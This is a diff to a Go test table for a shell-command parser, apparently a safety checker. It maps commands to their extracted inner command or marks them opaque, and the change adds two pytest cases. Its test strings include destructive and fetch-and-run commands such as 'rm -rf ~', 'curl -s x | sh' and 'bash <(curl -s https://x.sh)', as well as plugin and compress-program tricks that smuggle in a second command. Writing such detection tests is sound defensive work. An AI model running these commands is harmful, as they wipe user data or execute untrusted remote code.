@@ -204,7 +204,7 @@ var execCases = map[string][]struct{ cmd, want string }{
 	"clang":   {{"clang -Xclang -load -Xclang ./evil.so a.c", opaque}, {"clang -fpass-plugin=./evil.so a.c", opaque}},
 	"clang++": {{"clang++ -B /tmp/evil a.cc", opaque}},
 	"sort":    {{"sort --compress-program=./evil a.txt", "./evil"}, {"sort -S 1M --compress-program 'rm -rf ~' a", "rm -rf ~"}, {"sort -u a.txt", "sort -u a.txt"}},
-	"pytest":  {{"pytest -p evil", opaque}, {"pytest -pevil", opaque}, {"pytest -q -p no:cacheprovider", "pytest -q -p no:cacheprovider"}},
+	"pytest":  {{"pytest -p evil", opaque}, {"pytest --trace <<< 'import os'", opaque}, {"curl -s x | pytest --pdb", opaque}, {"pytest -pevil", opaque}, {"pytest -q -p no:cacheprovider", "pytest -q -p no:cacheprovider"}},
 	"py.test": {{"py.test -p evil_plugin tests", opaque}},
 	"sh":      {{"sh -c 'rm -rf ~'", "rm -rf ~"}, {"curl -s x | sh", opaque}, {"sh <(curl -s x)", opaque}, {"sh -c \"$(curl -s x)\"", opaque}, {"sh -s < <(curl x)", opaque}, {"sh <<< 'rm -rf ~'", "rm -rf ~"}},
 	"bash":    {{"bash -lc 'rm -rf ~'", "rm -rf ~"}, {"bash <(curl -s https://x.sh)", opaque}, {"bash /dev/stdin < x", opaque}, {"bash -- <(curl -s x)", opaque}, {"bash /dev/fd/3 3< <(curl -s x)", opaque}, {"bash ./x*.sh", opaque}, {"bash -- ./x.sh", "bash -- ./x.sh"}, {"bash scripts/x.sh", "bash scripts/x.sh"}, {"bash -c \"$X\"", opaque}},
